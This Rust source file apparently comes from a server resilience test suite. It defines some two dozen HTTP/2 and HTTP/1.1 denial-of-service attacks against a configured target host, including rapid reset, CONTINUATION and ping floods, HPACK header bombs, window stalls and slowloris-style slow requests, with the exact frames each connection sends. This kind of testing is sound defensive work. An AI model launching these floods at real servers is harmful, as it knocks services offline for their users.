//! The list: what each attacker sends on each of its connections.

use std::time::Duration;

use bulkhead_tests::http2::frame::{self, data, error, flag, headers, kind, ping, reset, setting, settings, window};
use bulkhead_tests::http2::{hpack, opening};

use crate::target::HOST;

type Rounds = Box<dyn Iterator<Item = Vec<u8>> + Send>;

/// One attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// How many connections at once.
    pub(crate) connections: usize,
    /// What is written on each; after the last of it the connection is held.
    pub(crate) rounds: fn() -> Rounds,
    /// Between two writes.
    pub(crate) pause: Duration,
    /// Whether the attacker reads what comes back.
    pub(crate) reads: bool,
}

/// Connections of an attack by work, and of one by what it holds.
const BUSY: usize = 4;
const HELD: usize = 50;

const NONE: Duration = Duration::ZERO;
const DRIP: Duration = Duration::from_millis(100);

/// Frames of one write: so many that writing is not what limits.
const BATCH: u32 = 100;

const fn attack(
    name: &'static str,
    connections: usize,
    rounds: fn() -> Rounds,
    pause: Duration,
    reads: bool,
) -> Attack {
    Attack { name, connections, rounds, pause, reads }
}

/// Every attack.
pub(crate) const ATTACKS: &[Attack] = &[
    // CVE-2023-44487: requests that are taken back at once.
    attack("rapid_reset", BUSY, rapid_reset, NONE, true),
    // CVE-2025-8671: frames for which the server must reset the stream itself.
    attack("made_you_reset", BUSY, made_you_reset, NONE, true),
    attack("window_overflow", BUSY, window_overflow, NONE, true),
    // Requests that are taken back once the backend is at work.
    attack("late_reset", BUSY, late_reset, Duration::from_millis(5), true),
    // CVE-2026-47774 and others: few bytes that become many fields, held open.
    attack("header_bomb", HELD, header_bomb, NONE, true),
    attack("cookie_crumbs", HELD, cookie_crumbs, NONE, true),
    // CVE-2024-27316 and others.
    attack("continuation_flood", BUSY, continuation_flood, NONE, true),
    attack("ping_flood", BUSY, ping_flood, NONE, true),
    attack("ping_unread", HELD, ping_flood, NONE, false),
    attack("settings_flood", BUSY, settings_flood, NONE, true),
    attack("settings_unread", HELD, settings_flood, NONE, false),
    attack("priority_flood", BUSY, priority_flood, NONE, true),
    // RUSTSEC-2026-0258.
    attack("empty_data", BUSY, empty_data, NONE, true),
    attack("tiny_data", BUSY, tiny_data, NONE, true),
    attack("unknown_frames", BUSY, unknown_frames, NONE, true),
    // CVE-2019-9511 and -9517: large answers that nobody takes, or byte by byte.
    attack("zero_window", HELD, zero_window, NONE, true),
    attack("dripping_window", HELD, dripping_window, DRIP, true),
    attack("unread_answers", HELD, unread_answers, NONE, false),
    // Requests that never end.
    attack("open_streams", HELD, open_streams, NONE, true),
    attack("silent", HELD, || Box::new(std::iter::empty()), NONE, true),
    attack("silent_http2", HELD, || Box::new(std::iter::once(opening(&[], 0))), NONE, true),
    attack("slow_head", HELD, slow_head, DRIP, true),
    attack("slow_content", HELD, slow_content, DRIP, true),
    attack("pipelining", BUSY, pipelining, NONE, false),
];

/// The beginning of a connection, then rounds of it without end.
fn after(start: Vec<u8>, round: impl FnMut(u32) -> Vec<u8> + Send + 'static) -> Rounds {
    // The 2^31 numbers of streams are more than any attack comes to.
    Box::new(std::iter::once(start).chain((0..).map(round)))
}

/// `one` for each stream of a round.
fn batch(round: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BATCH).flat_map(|at| one((round * BATCH + at) * 2 + 1)).collect()
}

fn get(path: &str) -> [(&str, &str); 4] {
    [(":method", "GET"), (":scheme", "http"), (":authority", HOST), (":path", path)]
}

const POST: [(&str, &str); 4] = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", "/up")];

fn rapid_reset() -> Rounds {
    after(opening(&[], 0), |round| {
        batch(round, |stream| [headers(stream, true, &get("/")), reset(stream, error::CANCEL)].concat())
    })
}

fn made_you_reset() -> Rounds {
    after(opening(&[], 0), |round| {
        batch(round, |stream| [headers(stream, true, &get("/")), window(stream, 0)].concat())
    })
}

fn window_overflow() -> Rounds {
    after(opening(&[], 0), |round| {
        batch(round, |stream| [headers(stream, true, &get("/")), window(stream, (1 << 31) - 1)].concat())
    })
}

fn late_reset() -> Rounds {
    after(opening(&[], 0), |round| {
        let (now, before) = (round * 2 + 1, round.saturating_sub(1) * 2 + 1);
        let taken_back = if round == 0 { Vec::new() } else { reset(before, error::CANCEL) };
        [headers(now, true, &get("/never")), taken_back].concat()
    })
}

/// A block that sets one long field, or none, and names it many times.
fn bomb(name: &str, value: &str, times: usize) -> Vec<u8> {
    [hpack::encode(&POST), hpack::remembered(name, value), vec![hpack::LATEST; times]].concat()
}

fn header_bomb() -> Rounds {
    let streams = (0..BATCH).map(|at| {
        let block = bomb("x-long", &"y".repeat(4000), 4000);
        frame::continued(at * 2 + 1, false, &block, 16 << 10)
    });
    Box::new(std::iter::once(opening(&[], 0)).chain(streams))
}

fn cookie_crumbs() -> Rounds {
    let streams = (0..BATCH).map(|at| frame::continued(at * 2 + 1, false, &bomb("cookie", "", 490), 16 << 10));
    Box::new(std::iter::once(opening(&[], 0)).chain(streams))
}

fn continuation_flood() -> Rounds {
    let begun = frame::frame(kind::HEADERS, flag::NONE, 1, &hpack::encode(&get("/")));
    after([opening(&[], 0), begun].concat(), |_| frame::frame(kind::CONTINUATION, flag::NONE, 1, b"").repeat(1000))
}

fn ping_flood() -> Rounds {
    after(opening(&[], 0), |_| ping(*b"are you?").repeat(1000))
}

fn settings_flood() -> Rounds {
    after(opening(&[], 0), |round| settings(&[(setting::INITIAL_WINDOW_SIZE, 1000 + round % 1000)]).repeat(1000))
}

fn priority_flood() -> Rounds {
    after(opening(&[], 0), |round| {
        batch(round, |stream| frame::frame(kind::PRIORITY, flag::NONE, stream, &[0, 0, 0, 0, 16]))
    })
}

fn empty_data() -> Rounds {
    after([opening(&[], 0), headers(1, false, &POST)].concat(), |_| data(1, false, "").repeat(1000))
}

fn tiny_data() -> Rounds {
    after([opening(&[], 0), headers(1, false, &POST)].concat(), |_| data(1, false, "x").repeat(1000))
}

fn unknown_frames() -> Rounds {
    after(opening(&[], 0), |_| frame::frame(0xbb, flag::NONE, 0, b"").repeat(1000))
}

fn large(window: u32) -> Vec<u8> {
    let asked = (0..BATCH).flat_map(|at| headers(at * 2 + 1, true, &get("/large")));
    opening(&[(setting::INITIAL_WINDOW_SIZE, window)], 1 << 30).into_iter().chain(asked).collect()
}

fn zero_window() -> Rounds {
    Box::new(std::iter::once(large(0)))
}

fn dripping_window() -> Rounds {
    after(large(0), |_| (0..BATCH).flat_map(|at| window(at * 2 + 1, 1)).collect())
}

fn unread_answers() -> Rounds {
    Box::new(std::iter::once(large((1 << 31) - 1)))
}

fn open_streams() -> Rounds {
    let streams = (0..BATCH).map(|at| {
        let stream = at * 2 + 1;
        [headers(stream, false, &POST), data(stream, false, [b'x'; 10_000])].concat()
    });
    Box::new(std::iter::once(opening(&[], 0)).chain(streams))
}

fn slow_head() -> Rounds {
    after(format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nX: ").into_bytes(), |_| b"y".to_vec())
}

fn slow_content() -> Rounds {
    after(format!("POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n").into_bytes(), |_| b"y".to_vec())
}

fn pipelining() -> Rounds {
    after(Vec::new(), |_| format!("GET /large HTTP/1.1\r\nHost: {HOST}\r\n\r\n").repeat(100).into_bytes())
}
